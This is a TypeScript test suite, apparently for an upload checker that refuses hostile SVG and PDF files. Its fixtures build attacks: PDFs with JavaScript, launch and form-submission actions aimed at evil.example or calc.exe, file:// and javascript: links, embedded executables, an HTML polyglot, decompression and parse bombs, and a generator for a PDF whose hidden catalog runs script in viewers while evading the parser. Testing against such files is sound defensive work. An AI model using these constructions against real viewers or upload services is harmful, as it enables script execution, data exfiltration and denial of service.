  it('reads a hostile document in time linear in its size', async () => {
    const cases: [string, RegExp | null][] = [
      // Comments before the root: a backtracking pattern would take hours over these.
      [`${'<!---->'.repeat(500)}${SVG}</svg>`, null],
      [`${SVG}<style>${'/*'.repeat(200_000)}</style></svg>`, null],
      [`${SVG}<style>rect { fill: url(${' '.repeat(500_000)}</style></svg>`, /outside/],
      [`${SVG}<rect style="filter: none${' '.repeat(500_000)}x"/></svg>`, /filter effects/],
      [`${SVG}${'<g>'.repeat(90)}${'</g>'.repeat(90)}${'&amp;'.repeat(200_000)}</svg>`, null],
    ];
    for (const [svg, refused] of cases) {
      if (refused) await refusal(proof(svg), 'UNPROCESSABLE', refused);
      else expect((await proof(svg)).mime).toBe('image/webp');
    }
  });

  it('stops drawing what takes too long, in its own process', async () => {
    // A marker repeated at 2,000 points, each filling twenty large circles: minutes of drawing.
    const points = Array.from({ length: 2000 }, (_, k) => `${k % 4000} ${(k * 7) % 4000}`);
    const markers = `<svg xmlns="http://www.w3.org/2000/svg" width="4000" height="4000"><defs><marker id="m" markerUnits="userSpaceOnUse" markerWidth="4000" markerHeight="4000" overflow="visible">${'<circle r="3000" fill-opacity="0.5"/>'.repeat(20)}</marker></defs><path d="M${points.join(' L')}" stroke="black" marker-mid="url(#m)"/></svg>`;
    expect(() => checkSvgIsInert(Buffer.from(markers))).not.toThrow();
    // Only the time limit can refuse it: the drawing itself would take minutes.
    await refusal(
      drawSvg(Buffer.from(markers), { maxSide: 4000, maxPixels: 40_000_000, timeoutMs: 300 }),
      'UNPROCESSABLE',
      /it is too complex to draw/,
    );
  });
});

describe('acceptUpload: PDFs are parsed, every object inspected', () => {
  const refusedAs = (data: Buffer, message: RegExp) =>
    refusal(upload(data, 'proof.pdf'), 'UNPROCESSABLE', message);
  const SCRIPTS = /^This PDF cannot be accepted: it contains scripts, launch actions or embedded/;

  it('accepts ordinary PDFs, page for page: one page, many pages, links to the web, open at page 1', async () => {
    const single = await libraryPdf();
    const multi = await libraryPdf((doc, pages) => {
      set(doc, 'OpenAction', doc.context.obj([pages[0]?.ref as PDFObject, 'Fit']));
      annotate(doc, pages[0] as PDFPage, {
        Subtype: 'Link',
        A: { Type: 'Action', S: 'URI', URI: PDFString.of('https://bank.example/statements') },
      });
      annotate(doc, pages[1] as PDFPage, {
        Subtype: 'Link',
        A: { Type: 'Action', S: 'URI', URI: PDFString.of('mailto:help@bank.example') },
      });
      annotate(doc, pages[2] as PDFPage, { Subtype: 'Link', Dest: [pages[0]?.ref, 'Fit'] });
    }, 3);
    const plain = Buffer.from(
      await (await PDFDocument.load(single)).save({ useObjectStreams: false }),
    );
    for (const pdf of [single, multi, plain, handPdf()]) {
      const out = await upload(pdf, 'statement.pdf');
      expect(out.mime).toBe('application/pdf');
      const pages = async (bytes: Buffer) => (await PDFDocument.load(bytes)).getPageCount();
      expect(await pages(out.data)).toBe(await pages(pdf));
    }
    expect((await PDFDocument.load(multi)).getPageCount()).toBe(3);
  });

  it('refuses /JavaScript inside a compressed object stream', async () => {
    const pdf = await libraryPdf((doc) => {
      const action = doc.context.register(
        doc.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') }),
      );
      // Indirect, so that it goes into an object stream (pdf-lib keeps the catalog outside).
      const names = { JavaScript: { Names: [PDFString.of('init'), action] } };
      set(doc, 'Names', doc.context.register(doc.context.obj(names)));
    });
    // Nothing in the raw bytes gives it away: it is all deflated.
    expect(pdf.includes('JavaScript')).toBe(false);
    expect(pdf.includes('/ObjStm')).toBe(true);
    await refusedAs(pdf, SCRIPTS);

    const byHand = handPdf({
      catalog: '/Names 5 0 R',
      objects: [
        [
          4,
          objectStream([
            [5, '<< /JavaScript << /Names [(a) 6 0 R] >> >>'],
            [6, '<< /S /JavaScript /JS (app.alert(1)) >>'],
          ]),
        ],
      ],
    });
    expect(byHand.includes('JavaScript')).toBe(false);
    await refusedAs(byHand, SCRIPTS);
  });

  it('refuses a script beyond the first and last 64 KiB', async () => {
    const padding = pdfStream(Buffer.alloc(100 * 1024, 0x20));
    const pdf = handPdf({
      catalog: '/OpenAction 6 0 R',
      objects: [
        [4, padding],
        [6, '<< /S /JavaScript /JS (app.launchURL("https://evil.example")) >>'],
        [7, padding],
      ],
    });
    const at = pdf.indexOf('/JavaScript');
    expect(at).toBeGreaterThan(64 * 1024);
    expect(pdf.length - at).toBeGreaterThan(64 * 1024);
    await refusedAs(pdf, SCRIPTS);
  });

  it('decodes #-escaped names, in either case, in plain objects and object streams', async () => {
    // JavaScript, JS (lower-case hex digits), JavaScript (mixed), Launch.
    for (const name of ['/J#61vaScript', '/#4a#53', '/#4A#61va#53cript', '/L#61#75nch']) {
      await refusedAs(handPdf({ objects: [[4, `<< /S ${name} /X (x) >>`]] }), SCRIPTS);
      await refusedAs(
        handPdf({ objects: [[4, objectStream([[5, `<< /S ${name} >>`]])]] }),
        SCRIPTS,
      );
    }
  });

  it('refuses launch actions and other ways out of the document', async () => {
    const actions = [
      { S: 'Launch', F: PDFString.of('C:\\Windows\\System32\\calc.exe') },
      { S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] },
      { S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://evil.example/') } },
      { S: 'ImportData', F: PDFString.of('data.fdf') },
    ];
    for (const action of actions) {
      const pdf = await libraryPdf((doc, pages) => {
        annotate(doc, pages[0] as PDFPage, { Subtype: 'Link', A: action });
      });
      expect(pdf.includes(`/${action.S}`)).toBe(false);
      await refusedAs(pdf, SCRIPTS);
    }
  });

  it('refuses embedded files, also without the optional /Type', async () => {
    const attached = await libraryPdf(async (doc) => {
      await doc.attach(Buffer.from('MZ not really a program'), 'invoice.exe', {
        mimeType: 'application/octet-stream',
      });
    });
    await refusedAs(attached, SCRIPTS);

    const untyped = handPdf({
      page: '/Annots [5 0 R]',
      objects: [
        [
          4,
          objectStream([
            [
              5,
              '<< /Subtype /Link /Rect [0 0 9 9] /A << /S /GoTo /D [3 0 R /Fit] >> /FS << /EF << /F 6 0 R >> >> >>',
            ],
          ]),
        ],
        [6, pdfStream(deflateSync('MZ payload'), '/Filter /FlateDecode')],
      ],
    });
    await refusedAs(untyped, SCRIPTS);
  });

  it('refuses actions that run by themselves: /AA anywhere, /OpenAction other than a page', async () => {
    const onOpen = await libraryPdf((doc) => {
      set(
        doc,
        'OpenAction',
        doc.context.obj({ S: 'URI', URI: PDFString.of('https://evil.example/') }),
      );
    });
    await refusedAs(onOpen, /starts actions by itself/);
    const pageOpen = await libraryPdf((doc, pages) => {
      annotate(doc, pages[0] as PDFPage, {
        Subtype: 'Link',
        Dest: [pages[0]?.ref, 'Fit'],
        AA: { E: { S: 'GoTo', D: [pages[0]?.ref, 'Fit'] } },
      });
    });
    expect(pageOpen.includes('/AA')).toBe(false);
    await refusedAs(pageOpen, /starts actions by itself/);
    const chained = handPdf({
      catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>',
      objects: [[4, '<< /S /Named /N /Print >>']],
    });
    await refusedAs(chained, /starts actions by itself/);
  });

  it('refuses links other than http(s) and mailto', async () => {
    for (const uri of [
      'file://attacker.example/share/x',
      'javascript:alert(1)',
      '\\\\host\\share',
      'statements/1',
      ' https://x',
    ]) {
      const pdf = await libraryPdf((doc, pages) => {
        annotate(doc, pages[0] as PDFPage, {
          Subtype: 'Link',
          A: { S: 'URI', URI: PDFString.of(uri) },
        });
      });
      await refusedAs(pdf, /link that is not a web or e-mail address/);
    }
  });

  it('refuses encrypted PDFs', async () => {
    const encrypted = await libraryPdf((doc) => {
      doc.encrypt({ userPassword: 'secret', ownerPassword: 'owner' });
    });
    await refusedAs(encrypted, /encrypted or password-protected/);
    const byHand = handPdf({
      objects: [[4, '<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>']],
      trailer: '/Encrypt 4 0 R /ID [<0123456789abcdef> <0123456789abcdef>]',
    });
    await refusedAs(byHand, /encrypted or password-protected/);
  });

  it('refuses an HTML polyglot with the markup in the middle of a large file', async () => {
    const padding = pdfStream(
      deflateSync(Buffer.alloc(300 * 1024, 7), { level: 0 }),
      '/Filter /FlateDecode',
    );
    const pdf = handPdf({
      objects: [
        [4, padding],
        [5, pdfStream('<html><body><script>fetch("/api/me")</script></body></html>')],
        [6, padding],
      ],
    });
    const at = pdf.indexOf('<html>');
    expect(at).toBeGreaterThan(64 * 1024);
    expect(pdf.length - at).toBeGreaterThan(64 * 1024);
    await refusedAs(pdf, /web page content/);
  });

  it('refuses what does not parse or has no pages', async () => {
    const good = await libraryPdf();
    const stream = good.indexOf('/ObjStm');
    const damaged = Buffer.from(good);
    damaged.fill(
      0x41,
      damaged.indexOf('stream', stream) + 10,
      damaged.indexOf('stream', stream) + 40,
    );
    await refusedAs(damaged, /could not be read/);
    await refusedAs(
      Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n'),
      /could not be read/,
    );
    await refusedAs(
      Buffer.from('%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R [ ( endobj\n%%EOF\n'),
      /could not be read/,
    );
  });

  it('refuses objects placed where only a viewer would look', async () => {
    // An object stream without /Type /ObjStm: viewers read it through the cross-reference stream.
    await refusedAs(
      handPdf({ objects: [[4, objectStream([[5, '<< /S /Named /N /NextPage >>']], '')]] }),
      /could not be read/,
    );
    // An object inside another object's stream data, reachable by its offset in the xref table.
    await refusedAs(
      handPdf({ objects: [[4, pdfStream('7 0 obj << /S /GoTo /D [3 0 R /Fit] >> endobj')]] }),
      /could not be read/,
    );
    // A first definition with script, replaced by a harmless one further on.
    await refusedAs(
      handPdf({
        catalog: '/Names 5 0 R',
        objects: [
          [
            4,
            objectStream([
              [5, '<< /JavaScript << /Names [(a) 6 0 R] >> >>'],
              [6, '<< /S /JavaScript /JS (app.alert(1)) >>'],
            ]),
          ],
          [5, '<< >>'],
          [6, '<< >>'],
        ],
      }),
      SCRIPTS,
    );
  });

  it('refuses an object stream that inflates beyond 2 MB, without inflating it all', async () => {
    // One small object followed by 64 MB of spaces: harmless, but 1000 times its size unpacked.
    const contents = Buffer.alloc(64 * 1024 * 1024, 0x20);
    contents.write('5 0 << /Harmless true >>', 'latin1');
    const bomb = deflateSync(contents, { level: 9 });
    expect(bomb.length).toBeLessThan(128 * 1024);
    const pdf = handPdf({
      objects: [[4, pdfStream(bomb, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode')]],
    });
    await refusedAs(pdf, /could not be read/);
    // The same object stream, unpacking to less, is fine.
    const small = Buffer.from('5 0 << /Harmless true >>', 'latin1');
    const fine = handPdf({
      objects: [
        [4, pdfStream(deflateSync(small), '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode')],
      ],
    });
    await expect(upload(fine, 'fine.pdf')).resolves.toBeDefined();
  });

  it('refuses more than 2 MB of PDF syntax, even in one object', async () => {
    // 700,000 empty strings in one array: cheap to send, slow to parse.
    const pdf = handPdf({ objects: [[4, `[${'() '.repeat(700_000)}]`]] });
    expect(pdf.length).toBeGreaterThan(2 * 1024 * 1024);
    await refusedAs(pdf, /could not be read/);
  });

  it('refuses a PDF of more than 50,000 objects', async () => {
    const objects: [number, string][] = Array.from({ length: 50_001 }, (_, i) => [i + 10, 'null']);
    await refusedAs(handPdf({ objects: [[4, objectStream(objects)]] }), /could not be read/);
  });
});

/**
 * From the outside review (F4). What pdf-lib parses is harmless: a catalog, a page and its content stream, and a trailer
 * whose /Root is that catalog. But the content stream's data holds a second catalog with an
 * /OpenAction running JavaScript, the action itself, and an xref table with a trailer whose
 * /Root is that catalog; the file's last `startxref` points at that table. A viewer follows
 * startxref (pdf.js reports the OpenAction script). The hidden object headers escape the
 * "no object header inside stream data" check by a comment (`50 0 %c\nobj`, pdf.js and
 * PDFium skip comments as whitespace) or a real generation number (`50 0.0 obj`, pdf.js).
 */
function hiddenCatalogPdf(style: 'comment' | 'real'): Buffer {
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: Record<number, number> = {};
  const object = (n: number, body: string) => {
    offsets[n] = Buffer.byteLength(out, 'latin1');
    out += `${n} 0 obj\n${body}\nendobj\n`;
  };
  object(1, '<< /Type /Catalog /Pages 2 0 R >>');
  object(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  object(3, '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>');
  offsets[4] = Buffer.byteLength(out, 'latin1');
  const prefix = '4 0 obj\n<< /Length LLLLLLLL >>\nstream\n';
  const dataStart = offsets[4] + Buffer.byteLength(prefix, 'latin1');
  const header = (n: number) => (style === 'comment' ? `${n} 0 %c\nobj` : `${n} 0.0 obj`);
  let data = 'BT /F1 12 Tf 72 712 Td (Hello) Tj ET\n';
  const hidden: Record<number, number> = {};
  const hide = (n: number, body: string) => {
    hidden[n] = dataStart + Buffer.byteLength(data, 'latin1');
    data += `${header(n)}\n${body}\nendobj\n`;
  };
  hide(50, '<< /Type /Catalog /Pages 2 0 R /OpenAction 51 0 R >>');
  hide(51, '<< /S /JavaScript /JS (app.alert\\("hidden JavaScript ran"\\)) >>');
  const hiddenXref = dataStart + Buffer.byteLength(data, 'latin1');
  const entry = (offset: number) => `${String(offset).padStart(10, '0')} 00000 n \n`;
  const visible = [1, 2, 3, 4].map((n) => entry(offsets[n] ?? 0)).join('');
  data +=
    `xref\n0 5\n0000000000 65535 f \n${visible}50 2\n${entry(hidden[50] ?? 0)}${entry(hidden[51] ?? 0)}` +
    'trailer\n<< /Size 52 /Root 50 0 R >>\n';
  out += prefix.replace('LLLLLLLL', String(Buffer.byteLength(data, 'latin1')).padStart(8, ' '));
  out += `${data}\nendstream\nendobj\n`;
  out += `xref\n0 5\n0000000000 65535 f \n${visible}trailer\n<< /Size 5 /Root 1 0 R >>\n`;
  out += `startxref\n${hiddenXref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

describe('a PDF is kept as it was checked', () => {
  it('stores the checked objects rewritten, so a catalog hidden from the parse never reaches a viewer', async () => {
    for (const style of ['comment', 'real'] as const) {
      const upload = hiddenCatalogPdf(style);
      const accepted = await acceptUpload({
        data: upload,
        fileName: 'id.pdf',
        maxBytes: 8 * 1024 * 1024,
        allowed: ['pdf'],
        owner: 'user:1',
      }).catch((error: unknown) => error);
      if (accepted instanceof AppError) continue; // refused outright: just as safe
      const kept = (accepted as AcceptedFile).data;
      expect(kept.equals(upload), style).toBe(false);
      // A viewer follows the last startxref: it now leads to the one table the rewrite wrote,
      // whose trailer names the catalog that was inspected, without any action.
      const text = kept.toString('latin1');
      expect(text.match(/startxref/g), style).toHaveLength(1);
      const viewer = await PDFDocument.load(kept, { updateMetadata: false });
      expect(viewer.catalog.get(PDFName.of('OpenAction')), style).toBeUndefined();
      expect(String(viewer.context.trailerInfo.Root), style).toBe('1 0 R');
    }
  });

  it('keeps an ordinary PDF readable, page for page', async () => {
    const pdf = handPdf({});
    const accepted = await acceptUpload({
      data: pdf,
      fileName: 'id.pdf',
      maxBytes: 8 * 1024 * 1024,
      allowed: ['pdf'],
      owner: 'user:1',
    });
    expect(accepted.data.subarray(0, 5).toString('latin1')).toBe('%PDF-');
    expect(accepted.data.toString('latin1')).toMatch(/\/Type \/Page\b/);
  });
});

describe('what checking an upload may cost', () => {
  it('refuses a PDF with one huge object before parsing it (it would hold the event loop)', async () => {
    for (const huge of [`(${'a'.repeat(400_000)})`, `[${'0 '.repeat(200_000)}]`]) {
      const pdf = handPdf({ objects: [[4, huge]] });
      await expect(upload(pdf, 'id.pdf')).rejects.toThrow(/cannot be accepted/);
    }
  });

  it('counts 16-bit images twice against the pixel limit', async () => {
    const sixteenBit = await sharp({
      create: { width: 5000, height: 5000, channels: 3, background: '#808080' },
    })
      .png()
      .toColourspace('rgb16')
      .toBuffer();
    const meta = await sharp(sixteenBit).metadata();
    expect(meta.depth).toBe('ushort');
    await refusal(upload(sixteenBit, 'scan.png'), 'UNPROCESSABLE', /too large/);
  });

  it('checks two files at a time and keeps a short line; beyond it, the server is busy', async () => {
    // 21 people at once, one file each.
    const many = Array.from({ length: 2 + 16 + 3 }, (_, i) =>
      upload(png, 'receipt.png', { owner: `user:${100 + i}` }).then(
        () => 'accepted',
        (error: unknown) => (error as AppError).code,
      ),
    );
    const outcomes = await Promise.all(many);
    expect(outcomes.filter((o) => o === 'accepted')).toHaveLength(18);
    expect(outcomes.filter((o) => o === 'UNAVAILABLE')).toHaveLength(3);
    // The line empties: the next upload is checked as usual.
    expect((await upload(png, 'receipt.png')).mime).toBe('image/webp');
  });

  it("keeps one person's flood to their own turn: another person's file is checked (issue 20)", async () => {
    const outcome = (promise: Promise<unknown>) =>
      promise.then(
        () => 'accepted',
        (error: unknown) => (error as AppError).code,
      );
    const flood = Array.from({ length: 20 }, () =>
      outcome(upload(png, 'receipt.png', { owner: 'user:666' })),
    );
    const other = outcome(upload(png, 'me.png', { owner: 'user:7' }));
    expect(await other).toBe('accepted');
    const floodOutcomes = await Promise.all(flood);
    // One being checked and three in their line; the rest told to come back.
    expect(floodOutcomes.filter((o) => o === 'accepted')).toHaveLength(4);
    expect(floodOutcomes.filter((o) => o === 'UNAVAILABLE')).toHaveLength(16);
  });
});

describe('the PDF check and the console', () => {
  it("keeps pdf-lib's warnings out of the output while parsing, and gives console.warn back after", async () => {
    const before = console.warn;
    const seen: unknown[] = [];
    console.warn = (...args: unknown[]) => seen.push(args);
    try {
      // Numbers pdf-lib finds odd, several parses at once.
      const odd = handPdf({ objects: [[4, '<< /Big 99999999999999999999999999 >>']] });
      await Promise.all([1, 2, 3].map(() => upload(odd, 'odd.pdf').catch(() => undefined)));
      expect(seen).toEqual([]);
      console.warn('after');
      expect(seen).toEqual([['after']]);
    } finally {
      console.warn = before;
    }
  });
});
